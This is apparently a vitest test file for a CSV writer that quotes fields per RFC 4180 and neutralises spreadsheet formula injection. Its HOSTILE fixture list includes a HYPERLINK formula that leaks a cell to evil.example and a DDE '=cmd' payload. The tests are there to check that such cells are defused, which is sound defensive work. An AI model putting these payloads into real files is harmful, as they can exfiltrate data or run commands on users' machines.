// The CSV writer: RFC 4180 quoting, formula injection neutralised in every text cell, numbers kept as numbers, and
// the reader the tests use to check what an export wrote.
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, csvRow, neutralise, parseCsv, quote } from '../../server/src/review/csv.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=cmd|" /C calc"!A0',
  '\r=1',
  '  =1+1',
  '\n-1',
  '\u00a0@x',
  '＝1+1',
];

describe('neutralise', () => {
  it('puts a quote mark before every cell a spreadsheet could take for a formula', () => {
    for (const text of HOSTILE) expect(neutralise(text), JSON.stringify(text)).toBe(`'${text}`);
  });

  it('leaves ordinary text alone, formula characters inside it too', () => {
    for (const text of ['Casey Candidate', 'a=b', 'x+y', 'Jean-Luc', 'casey@example.test', "O'Brien", 'Zoë 张伟 🙂', '', ' ', '3.5'])
      expect(neutralise(text)).toBe(text);
  });
});

describe('quote', () => {
  it('quotes fields with commas, quotes, CR or LF, doubling inner quotes', () => {
    expect(quote('Smith, Jo')).toBe('"Smith, Jo"');
    expect(quote('say "hi"')).toBe('"say ""hi"""');
    expect(quote('two\nlines')).toBe('"two\nlines"');
    expect(quote('cr\rhere')).toBe('"cr\rhere"');
    expect(quote('plain')).toBe('plain');
    expect(quote('Zoë 张伟')).toBe('Zoë 张伟');
  });
});

describe('csvCell and csvRow', () => {
  it('writes numbers as numbers, empty cells for null, neutralised and quoted text', () => {
    expect(csvCell(7)).toBe('7');
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(3.25)).toBe('3.25');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('NaN');
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvCell('+1, and more')).toBe(`"'+1, and more"`);
  });

  it('ends each record with CRLF', () => {
    expect(csvRow(['a', 1, null, 'b,c'])).toBe('a,1,,"b,c"\r\n');
    expect(csvRow([])).toBe('\r\n');
  });
});

describe('parseCsv', () => {
  it('reads back every hostile cell as the neutralised text, one record per row', () => {
    const cells = [...HOSTILE, 'Smith, "Jo"\r\nthe second', 'Zoë 张伟 🙂', '', 42];
    const text = CSV_BOM + csvRow(['h', 'n']) + cells.map((c) => csvRow([c, 1])).join('');
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(['h', 'n']);
    expect(rows).toHaveLength(cells.length + 1);
    cells.forEach((c, i) => {
      const expected = typeof c === 'number' ? String(c) : neutralise(c);
      expect(rows[i + 1], JSON.stringify(c)).toEqual([expected, '1']);
      if (typeof c === 'string' && c !== '') expect(/^[=+\-@\t\r]/.test(rows[i + 1]![0]!), JSON.stringify(c)).toBe(false);
    });
  });

  it('takes LF line ends and a last line without one', () => {
    expect(parseCsv('a,b\nc,"d\nd"\n')).toEqual([['a', 'b'], ['c', 'd\nd']]);
    expect(parseCsv('a,b\r\nc,')).toEqual([['a', 'b'], ['c', '']]);
  });
});
